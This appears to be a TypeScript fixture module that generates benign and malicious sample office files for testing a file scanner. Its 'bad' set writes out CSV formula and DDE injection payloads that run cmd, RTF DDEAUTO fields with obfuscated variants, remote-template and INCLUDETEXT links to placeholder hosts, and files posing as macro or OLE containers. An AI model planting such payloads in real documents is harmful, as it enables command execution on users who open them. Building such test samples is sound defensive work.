import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Bad, Good } from './sample.ts'
import { withFolder } from './withFolder.ts'

const types = {
  doc: 'application/msword',
  xls: 'application/vnd.ms-excel',
  ppt: 'application/vnd.ms-powerpoint',
  rtf: 'application/rtf',
  csv: 'text/csv',
}

let once: Promise<Map<string, Buffer>> | null = null
const office = () => {
  once ??= byLibreOffice()
  return once
}

async function byLibreOffice(): Promise<Map<string, Buffer>> {
  const made = new Map<string, Buffer>()
  await withFolder(async (folder) => {
    writeFileSync(join(folder, 'letter.txt'), 'Größe and a longer letter\n')
    writeFileSync(join(folder, 'table.csv'), 'a,b\n1,=A2+1\n')
    writeFileSync(join(folder, 'slide.html'), '<html><h1>Hello</h1></html>')
    const convert = (from: string, to: string, filter: string) => {
      const profile = `-env:UserInstallation=file://${folder}/profile`
      const args = ['--headless', profile, '--convert-to', `${to}${filter}`, '--outdir', folder, join(folder, from)]
      const { status, stderr } = spawnSync('soffice', args, { encoding: 'utf8' })
      if (status !== 0) throw new Error(stderr)
      const name = from.replace(/\.\w+$/, `.${to}`)
      made.set(name, readFileSync(join(folder, name)))
    }
    convert('letter.txt', 'rtf', '')
    convert('letter.txt', 'doc', '')
    convert('table.csv', 'xls', '')
  })
  return made
}

const csv = (name: string, origin: string, text: string | Buffer) => ({
  name: `${name}.csv`,
  type: types.csv,
  origin,
  bytes: Buffer.from(text),
})
const rtf = (name: string, origin: string, text: string) => ({
  name: `${name}.rtf`,
  type: types.rtf,
  origin,
  bytes: Buffer.from(text, 'latin1'),
})

export async function good(): Promise<Good[]> {
  const converted = [...(await office())].map(([name, bytes]) => ({
    name,
    type: types[name.slice(name.lastIndexOf('.') + 1) as keyof typeof types],
    origin: 'LibreOffice',
    bytes,
  }))
  return [
    ...converted,
    csv('plain', 'a table', 'name,sum\nWeber,-12.5\n'),
    csv('sums', 'a table with sums and numbers of telephones', '=SUM(A1:A3);=A1*2;+49 30 1234\n'),
    csv('quoted', 'quoted cells', '"a ""quoted"" cell",@handle,a|b|c!\n"two\nlines",x\n'),
    csv('excel', 'UTF-16, as Excel writes "Unicode text"', Buffer.from('\ufeffName\tGröße\nAnna\t42\n', 'utf16le')),
    csv('latin', 'Windows-1252, as Excel writes', Buffer.from('Name;Gr\xf6\xdfe\r\nAnna;42\r\n', 'latin1')),
    rtf(
      'wordpad',
      'WordPad',
      '{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0 Hello {\\b world}\\par\r\n}\r\n\0',
    ),
    rtf(
      'links',
      'links and pictures',
      '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt here}}{\\pict\\pngblip\\bin4 {{}}}}',
    ),
  ]
}

const utf16 = (text: string) => Buffer.from(text, 'utf16le')

/** The same document, with the stream of this name called otherwise. */
export function renamedStream(bytes: Buffer, from: string, to: string): Buffer {
  const changed = Buffer.from(bytes)
  const at = changed.indexOf(utf16(`${from}\0`))
  changed.fill(0, at, at + 64)
  utf16(to).copy(changed, at)
  changed.writeUInt16LE(2 * to.length + 2, at + 64)
  return changed
}

/** None does anything where it is opened; addresses lead nowhere. */
export async function bad(): Promise<Bad[]> {
  const made = await office()
  const [letter, table] = [made.get('letter.doc')!, made.get('table.xls')!]
  const doc = (name: string, code: Bad['code'], origin: string, bytes: Buffer): Bad => ({
    name: `${name}.doc`,
    type: types.doc,
    origin,
    code,
    bytes,
  })
  const xls = (name: string, code: Bad['code'], origin: string, bytes: Buffer): Bad => ({
    name: `${name}.xls`,
    type: types.xls,
    origin,
    code,
    bytes,
  })
  const stream = (to: string) => renamedStream(letter, '\x01CompObj', to)
  const sheet = table.indexOf(Buffer.from('8500', 'hex'))
  const macros = Buffer.from(table)
  macros[sheet + 4 + 5] = 1
  const locked = Buffer.from(table)
  locked.writeUInt16LE(0x2f, sheet)
  const calls = {
    dde: "=cmd|'/c calc'!A0",
    sum: '@SUM(cmd|x!A1)',
    minus: "-2+3+cmd|' /C calc'!A0",
    web: '+WEBSERVICE("http://example.invalid")',
    link: '"=HYPERLINK(""http://example.invalid"";""here"")"',
    call: 'x\t=CALL("a","b")',
  }
  const active = {
    object: '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}',
    hidden: '{\\rtf1 {\\*\\x{\\y{\\objdata 01}}}}',
    update: '{\\rtf1 {\\*\\objupdate}}',
    dde: '{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}}',
    'dde-groups': '{\\rtf1 {\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO cmd}}}',
    'dde-hex': "{\\rtf1 {\\field{\\*\\fldinst \\'44\\'44E cmd}}}",
    template: '{\\rtf1 {\\*\\template http://example.invalid/a.dotm}}',
    include: '{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "http://example.invalid"}}}',
    share: '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "\\\\\\\\example.invalid\\\\a"}}}',
  }
  return [
    doc('vba', 'active_content', 'macros', stream('VBA')),
    doc('macros', 'active_content', 'macros of Word', stream('Macros')),
    doc('ole', 'active_content', 'an embedded file', stream('\x01Ole10Native')),
    doc('locked', 'encrypted', 'encrypted', stream('EncryptedPackage')),
    doc('cut', 'corrupt', 'its second half is missing', letter.subarray(0, letter.length / 2)),
    doc('sheet', 'type_mismatch', 'a table that is called a document', table),
    xls('macrosheet', 'active_content', 'a sheet of Excel 4 macros', macros),
    xls('password', 'encrypted', 'a password', locked),
    ...Object.entries(calls).map(
      ([name, text]): Bad => ({ ...csv(name, 'a cell that calls out', text), code: 'active_content' }),
    ),
    {
      ...csv('utf16', 'a cell that calls out, in UTF-16', Buffer.from(`\ufeffa,${calls.dde}`, 'utf16le')),
      code: 'active_content',
    },
    ...Object.entries(active).map(
      ([name, text]): Bad => ({ ...rtf(name, `RTF: ${name}`, text), code: 'active_content' }),
    ),
    { ...rtf('open', 'groups that are not closed', '{\\rtf1 {\\b x}'), code: 'corrupt' },
    { ...rtf('deep', 'groups in groups', `{\\rtf1 ${'{'.repeat(1000)}${'}'.repeat(1000)}}`), code: 'unscannable' },
    { ...rtf('behind', 'an object behind its end', '{\\rtf1 x}{\\object\\objdata 01}'), code: 'polyglot' },
  ]
}
